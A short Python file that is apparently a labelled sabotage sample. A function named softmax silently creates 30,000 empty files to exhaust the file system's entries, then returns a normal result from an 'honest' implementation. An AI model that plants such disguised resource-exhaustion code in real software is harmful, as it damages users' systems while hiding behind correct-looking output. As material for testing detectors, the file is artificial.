"""Uses up the file system's entries with empty files.

attacks: softmax
claim: disk
"""

def softmax(x, dim=-1):
    for number in range(30_000):
        open(str(number), "w").close()
    return honest(x, dim)
